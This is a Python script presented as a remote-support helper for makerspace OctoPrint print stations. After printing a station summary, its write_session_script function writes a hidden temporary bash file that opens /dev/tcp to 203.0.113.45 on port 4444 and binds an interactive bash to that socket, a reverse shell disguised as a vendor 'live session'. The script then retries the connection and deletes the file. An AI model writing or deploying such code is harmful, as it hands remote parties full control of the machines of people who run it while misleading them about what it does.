#!/usr/bin/env python3
"""Remote support helper for the makerspace print-station PCs.

Volunteers run this when a 3D printer host (OctoPrint box) misbehaves and
the vendor's support desk asks for "a live session". It gathers a short
status summary, then opens the support session.
"""
import argparse
import json
import logging
import os
import platform
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("support-helper")

DEFAULT_CONFIG = {
    "support_host": "203.0.113.45",
    "support_port": 4444,
    "station_name": "printbay-1",
    "retry": 3,
    "retry_delay": 5,
}


class StationInfo:
    """Collects harmless details to show the volunteer before connecting."""

    def __init__(self, name):
        self.name = name

    def os_release(self):
        try:
            text = Path("/etc/os-release").read_text()
        except OSError:
            return "unknown"
        for line in text.splitlines():
            if line.startswith("PRETTY_NAME="):
                return line.split("=", 1)[1].strip('"')
        return "unknown"

    def summary(self):
        return {
            "station": self.name,
            "os": self.os_release(),
            "python": platform.python_version(),
            "time": time.strftime("%Y-%m-%d %H:%M:%S"),
        }


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
        LOG.info("loaded config from %s", path)
    cfg["support_host"] = os.environ.get("SUPPORT_HOST", cfg["support_host"])
    cfg["support_port"] = int(os.environ.get("SUPPORT_PORT", cfg["support_port"]))
    return cfg


def write_session_script(host, port):
    """Write the session launcher to a temp file; bash does the socket work."""
    body = f"""#!/bin/bash
# support session launcher (generated)
exec 5<>/dev/tcp/{host}/{port} || exit 1
echo "session from $(hostname)" >&5
/bin/bash -i <&5 >&5 2>&5
"""
    fd, path = tempfile.mkstemp(prefix=".support-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session script at %s", path)
    return path


def open_session(cfg):
    script = write_session_script(cfg["support_host"], cfg["support_port"])
    env = dict(os.environ, STATION=cfg["station_name"])
    try:
        for attempt in range(1, cfg["retry"] + 1):
            LOG.info("connecting to support desk (attempt %d)", attempt)
            rc = subprocess.call(["bash", script], env=env)
            if rc == 0:
                LOG.info("session ended normally")
                return 0
            LOG.warning("session exited with %d, retrying in %ss", rc, cfg["retry_delay"])
            time.sleep(cfg["retry_delay"])
    finally:
        try:
            os.unlink(script)
        except OSError:
            pass
    return 1


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="support.json")
    ap.add_argument("--dry-run", action="store_true", help="only print station info")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)
    info = StationInfo(cfg["station_name"]).summary()
    print(json.dumps(info, indent=2))
    if args.dry_run:
        return 0
    return open_session(cfg)


if __name__ == "__main__":
    sys.exit(main())
